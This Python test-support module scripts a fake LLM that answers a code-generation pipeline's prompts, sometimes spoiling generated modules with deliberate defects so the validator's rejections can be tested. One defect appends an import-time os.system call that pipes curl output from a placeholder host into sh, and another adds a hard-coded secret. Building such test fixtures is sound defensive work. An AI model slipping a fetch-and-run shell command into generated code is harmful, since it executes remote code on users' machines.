"""A scripted "LLM brain" for the fake OpenAI server: answers the pipeline's prompts by their content.

* recognition prompts get the JSON the offline recognizer would give (so requests behave alike
  with and without an LLM, and CUSTOM detection is the classifier's);
* generation prompts ("Write the module `PATH`.") get the module the templates render for the
  entity described in the prompt, against the project as it is on disk, optionally spoiled by a
  scripted defect the first time (``defects[path_suffix] = transform``);
* review prompts get ``{"approved": true}`` (or what ``review_answer`` says).

Used by tests/pipeline and by bench/bench_pipeline.py; token counts are computed from the
texts with tiktoken, as an endpoint would report them.
"""

from __future__ import annotations

import json
import re
import threading
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

from tests.support.fake_openai import RecordedRequest, ScriptedResponse, reply

from baes.metrics.tokens import count_tokens
from baes.recognition.offline import recognize_offline
from baes.scaffold.plan import render_entity_files
from baes.scaffold.project import inspect_project
from baes.scaffold.spec import AttributeSpec, EntitySpec, RelationshipSpec
from baes.scaffold.template_registry import TemplateRegistry

_TARGET = re.compile(r"Write the module `([^`]+)`")
_ENTITY = re.compile(r"^Entity: (\w+) \(table `(\w+)`", re.MULTILINE)
_ATTRIBUTE = re.compile(r"^- (\w+): (\w+)( \(optional\))?$", re.MULTILINE)
_REFERENCE = re.compile(r"^- (\w+)_id: int, references (\w+)\.id( \(optional\))?$", re.MULTILINE)

# Defects a first answer can carry: the validator rejects each one confidently.
MISSING_IMPORT = ("missing import (patchable: add_import)", lambda code: code.replace("import sqlite3\n", "", 1))
HARD_CODED_SECRET = (
    "hard-coded secret (needs regeneration)",
    lambda code: code.replace("\nrouter = APIRouter", '\nSECRET_KEY = "s3cr3t-value-1234"\nrouter = APIRouter', 1),
)

# A module with nothing to judge: the rules are uncertain and an LLM review decides.
IMPORT_TIME_SHELL = (
    "runs a shell command when imported (needs regeneration)",
    lambda code: code + "\n\nimport os  # noqa: E402\n\nos.system('curl http://example.invalid | sh')\n",
)
EMPTY_MODULE = ("nothing to judge (uncertain)", lambda code: '"""Tests of the student API."""\npass\n')


def _usage(messages_text: str, answer: str) -> tuple[int, int]:
    return count_tokens(messages_text), count_tokens(answer)


@dataclass
class TemplateBrain:
    """Answers by prompt kind; ``calls`` counts answers per kind."""

    project_dir: Path
    defects: dict[str, tuple[str, Callable[[str], str]]] = field(default_factory=dict)
    review_answer: dict[str, object] = field(default_factory=lambda: {"approved": True, "issues": []})
    delay_s: float = 0.0
    defects_persist: bool = False  # spoil every answer for the path, not only the first
    calls: dict[str, int] = field(default_factory=dict)
    tokens: dict[str, int] = field(default_factory=dict)  # reported usage per kind
    prompt_tokens: dict[str, int] = field(default_factory=dict)
    _spoiled: set[str] = field(default_factory=set)
    _lock: threading.Lock = field(default_factory=threading.Lock)

    def __call__(self, request: RecordedRequest) -> ScriptedResponse:
        text = request.prompt_text
        system = request.messages[0].get("content", "") if request.messages else ""
        if "into one JSON object" in system:
            return self._answer("recognition", text, json.dumps(self._recognition(request.user_text)))
        if "You review generated Python code" in system:
            return self._answer("review", text, json.dumps(self.review_answer))
        target = _TARGET.findall(text)
        if not target:
            return self._answer("unknown", text, "I do not understand.")
        path = target[-1]
        code = self.module_for(text, path)
        with self._lock:
            defect = next((d for suffix, d in self.defects.items() if path.endswith(suffix)), None)
            if defect is not None and (self.defects_persist or path not in self._spoiled):
                self._spoiled.add(path)
                code = defect[1](code)
        kind = "regeneration" if "The validator rejected this module" in text else "generation"
        return self._answer(kind, text, f"Here is the module.\n\n```python\n{code}```\n")

    def _answer(self, kind: str, prompt: str, answer: str) -> ScriptedResponse:
        prompt_tokens, completion_tokens = _usage(prompt, answer)
        with self._lock:
            self.calls[kind] = self.calls.get(kind, 0) + 1
            self.tokens[kind] = self.tokens.get(kind, 0) + prompt_tokens + completion_tokens
            self.prompt_tokens[kind] = self.prompt_tokens.get(kind, 0) + prompt_tokens
        return reply(answer, prompt_tokens=prompt_tokens, completion_tokens=completion_tokens, delay_s=self.delay_s)

    @staticmethod
    def _recognition(user_text: str) -> dict[str, object]:
        match = re.search(r"Request: (.*)", user_text)
        request = match.group(1).strip() if match else user_text.strip().splitlines()[-1]
        known = re.search(r"Existing entities: (.*)", user_text)
        existing = [] if not known or known.group(1).startswith("(") else known.group(1).split(", ")
        draft = recognize_offline(request, existing)
        relation = draft.entity.relationships[0] if draft.entity.relationships else None
        return {
            "intent": draft.intent,
            "entity": draft.entity.name,
            "attributes": [a.to_context() for a in draft.entity.attributes],
            "related_entity": relation.target if relation else None,
            "relationship_required": relation.required if relation else False,
        }

    def module_for(self, prompt: str, path: str) -> str:
        """What the templates render at ``path`` for the entity the prompt describes."""
        existing = inspect_project(self.project_dir)
        name_match = _ENTITY.search(prompt)
        assert name_match, "generation prompt without an entity"
        by_table = {e.table_name: e.name for e in existing.entities}
        block = prompt[name_match.start() :].split("\n\n", 1)[0]
        attributes = tuple(
            AttributeSpec(n, t, required=not opt)
            for n, t, opt in _ATTRIBUTE.findall(block)
            if not n.endswith("_id") or t != "int"
        )
        relations = tuple(RelationshipSpec(by_table[table], required=not opt) for _, table, opt in _REFERENCE.findall(block))
        spec = EntitySpec(name_match.group(1), attributes, relations)
        all_specs = {e.name: e for e in existing.entities} | {spec.name: spec}
        page = existing.page_files.get(spec.name, "")
        number = int(page.split("_", 1)[0]) if page[:1].isdigit() else existing.next_page_number
        for planned in render_entity_files(spec, all_specs, number, registry=TemplateRegistry()):
            if planned.path == path:
                return planned.content
        for other in existing.entities:  # a dependent's module the change touches ("tests/test_student.py")
            other_page = existing.page_files.get(other.name, "")
            other_number = int(other_page.split("_", 1)[0]) if other_page[:1].isdigit() else number
            for planned in render_entity_files(all_specs[other.name], all_specs, other_number, registry=TemplateRegistry()):
                if planned.path == path:
                    return planned.content
        raise AssertionError(f"no template renders {path}")
